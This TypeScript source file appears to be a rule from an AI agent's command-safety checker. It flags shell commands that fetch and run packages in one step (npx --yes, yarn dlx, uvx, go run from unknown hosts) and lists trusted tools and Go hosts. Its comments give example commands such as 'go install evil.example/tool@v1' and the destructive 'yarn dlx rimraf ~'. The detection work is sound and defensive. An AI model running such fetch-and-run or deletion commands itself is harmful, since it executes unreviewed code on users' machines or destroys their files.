// Programs fetched from a package registry or a repository and run in one step: `npx --yes`,
// `npm exec --yes`, `yarn dlx`, `pnpm dlx`, `bunx`, `pipx run`, `uvx`, `uv tool run`, `go run
// mod@version`, `go install mod@version`. What the fetched code does is unknown. Held: a fetch
// whose confirmation is skipped (`--yes`), and a package named by a URL, a git repository, a
// tarball or a Go module on a host that is not a known public code host. The command the
// package then runs is judged by the launcher rules (`yarn dlx rimraf ~` as `rimraf ~`).
import { readOptions, type OptionTable, type ResolvedCommand } from "@hermes-agent/shell";
import { matchOf, type CommandRule } from "../rule-context.js";
import type { DangerousCommandMatch } from "../types.js";
import { OPS_CLI_RULES } from "./ops-cli-catalog.js";

type Match = DangerousCommandMatch | null;

const untrusted = (): Match => matchOf(OPS_CLI_RULES.untrustedPackage);

// A package spec that is not a registry name: a URL, a git repository, a hosted repo
// shorthand, a tarball or a directory outside the project.
const REMOTE_SPEC =
  /^(?:(?:https?|ftp|file):\/\/|git\+|git:\/\/|git@|ssh:\/\/|(?:github|gitlab|bitbucket|gist):)|\.(?:tgz|tar\.gz|whl|zip)$|^[\w-]+\/[\w.-]+(?:#.*)?$/i;

const NPX: OptionTable = {
  shortWithValue: "pc",
  longWithValue: ["package", "call", "workspace", "prefix", "registry"],
  long: ["yes", "no", "quiet", "ignore-existing"],
};
const DLX: OptionTable = {
  shortWithValue: "pc",
  longWithValue: ["package", "registry", "dir", "filter"],
  long: ["quiet", "silent"],
};
const PY_RUN: OptionTable = {
  longWithValue: [
    "spec",
    "from",
    "with",
    "python",
    "index-url",
    "extra-index-url",
    "index",
    "pip-args",
  ],
  long: ["no-cache", "isolated", "quiet", "verbose"],
};

/** The package specs a fetch-and-run names: its `--package` values and first operand. */
function specs(cmd: ResolvedCommand, table: OptionTable, skip: number): string[] {
  const read = readOptions(cmd.args, table);
  const named = read.options
    .filter((o) => /^(?:p|package|spec|from|with)$/.test(o.name))
    .map((o) => o.value ?? "");
  const first = read.operands[skip]?.text;
  return first === undefined ? named : [...named, first];
}

function skipsConfirmation(cmd: ResolvedCommand): boolean {
  return readOptions(cmd.args, NPX).options.some((o) => o.name === "y" || o.name === "yes");
}

/** `npx`, `npm exec`, `pnpm exec/dlx`, `yarn dlx`, `bunx`, `bun x`. */
function nodeFetch(cmd: ResolvedCommand): Match {
  const ops = readOptions(cmd.args, DLX).operands.map((word) => word.text);
  let skip: number;
  if (cmd.name === "npx" || cmd.name === "bunx" || cmd.name === "pnpx") skip = 0;
  else if (cmd.name === "npm" && ops[0] === "exec") skip = 1;
  else if ((cmd.name === "yarn" || cmd.name === "pnpm") && ops[0] === "dlx") skip = 1;
  else if (cmd.name === "bun" && ops[0] === "x") skip = 1;
  else return null;
  const named = specs(cmd, skip === 0 ? NPX : DLX, skip);
  if (named.some((spec) => REMOTE_SPEC.test(spec))) return untrusted();
  // `npx --yes prettier`: confirmation skipped for a widely used tool is ordinary; for any
  // other package it means code nobody looked at runs unasked.
  if ((cmd.name === "npx" || cmd.name === "npm") && skipsConfirmation(cmd))
    return named.length > 0 && named.every((spec) => WELL_KNOWN_TOOLS.has(packageName(spec)))
      ? null
      : untrusted();
  return null;
}

// Widely used development tools on the npm registry (run by their registry name).
const WELL_KNOWN_TOOLS = new Set(
  (
    "prettier eslint typescript tsc tsx ts-node vitest jest mocha vite next nuxt nx turbo lerna " +
    "husky lint-staged serve http-server npm-check-updates ncu semantic-release @biomejs/biome " +
    "playwright @playwright/test cypress storybook wrangler vercel netlify-cli firebase-tools " +
    "degit create-react-app create-next-app create-vite create-vue @angular/cli @nestjs/cli " +
    "prisma drizzle-kit knip depcheck madge cross-env concurrently nodemon markdownlint-cli " +
    "@redocly/cli @vue/cli sort-package-json npm-run-all pnpm yarn corepack rimraf"
  ).split(" "),
);

/** The registry name of a package spec: `prettier@3` → `prettier`, `@scope/x@1` → `@scope/x`. */
function packageName(spec: string): string {
  const at = spec.indexOf("@", 1);
  return at < 0 ? spec : spec.slice(0, at);
}

/** `pipx run`, `uvx`, `uv tool run`: a Python tool fetched into a throwaway environment. */
function pythonFetch(cmd: ResolvedCommand): Match {
  const ops = readOptions(cmd.args, PY_RUN).operands.map((word) => word.text);
  let skip: number;
  if (cmd.name === "uvx") skip = 0;
  else if (cmd.name === "pipx" && ops[0] === "run") skip = 1;
  else if (cmd.name === "uv" && ops[0] === "tool" && ops[1] === "run") skip = 2;
  else return null;
  const read = readOptions(cmd.args, PY_RUN);
  if (read.options.some((o) => /index-url|^index$/.test(o.name))) return untrusted();
  return specs(cmd, PY_RUN, skip).some(
    (spec) => REMOTE_SPEC.test(spec) && !/^[\w-]+\/[\w.-]+$/.test(spec),
  )
    ? untrusted()
    : null;
}

// Hosts of Go modules that are public code hosts or well-known project domains.
const KNOWN_GO_HOSTS =
  /^(?:github\.com|gitlab\.com|bitbucket\.org|golang\.org|google\.golang\.org|cloud\.google\.com|go\.uber\.org|honnef\.co|mvdan\.cc|gopkg\.in|k8s\.io|sigs\.k8s\.io|go\.opentelemetry\.io|gotest\.tools|gotest\.tools\/v3|go\.etcd\.io|go\.mozilla\.org|filippo\.io|golang\.zx2c4\.com|buf\.build|connectrpc\.com|entgo\.io|gorm\.io|go\.temporal\.io|dagger\.io|helm\.sh|istio\.io|knative\.dev|tailscale\.com)$/;

// Code hosts where anyone can publish a module: `go run` of one at a version outside the
// project's go.mod runs code nobody pinned or reviewed (`go install` only builds it).
const OPEN_GO_FORGES =
  /^(?:github\.com|gitlab\.com|bitbucket\.org|gopkg\.in|codeberg\.org|git\.sr\.ht)$/;

/**
 * `go run example.com/x@latest`, `go install evil.example/tool@v1`: code from an unknown host;
 * `go run github.com/someone/tool@latest`: code from an open forge run at once.
 */
function goFetch(cmd: ResolvedCommand): Match {
  const ops = readOptions(cmd.args, {
    longWithValue: ["C", "tags", "ldflags", "gcflags", "o", "mod", "modfile", "exec", "p"],
  }).operands.map((word) => word.text);
  if (ops[0] !== "run" && ops[0] !== "install" && ops[0] !== "get") return null;
  // `go run` builds only its first operand; the rest are the program's arguments.
  const modules = ops[0] === "run" ? ops.slice(1, 2) : ops.slice(1);
  return modules.some((op) => {
    const at = /^([\w.-]+\.[a-z]{2,})\/[^@\s]*@\S+$/i.exec(op);
    const host = at?.[1] ?? "";
    if (at === null) return false;
    return !KNOWN_GO_HOSTS.test(host) || (ops[0] === "run" && OPEN_GO_FORGES.test(host));
  })
    ? untrusted()
    : null;
}

/** Packages fetched and run in one step from somewhere nobody reviewed. */
export const packageFetchRunRule: CommandRule = (cmd) => {
  switch (cmd.name) {
    case "npx":
    case "pnpx":
    case "bunx":
    case "npm":
    case "pnpm":
    case "yarn":
    case "bun":
      return nodeFetch(cmd);
    case "uvx":
    case "pipx":
    case "uv":
      return pythonFetch(cmd);
    case "go":
      return goFetch(cmd);
    default:
      return null;
  }
};
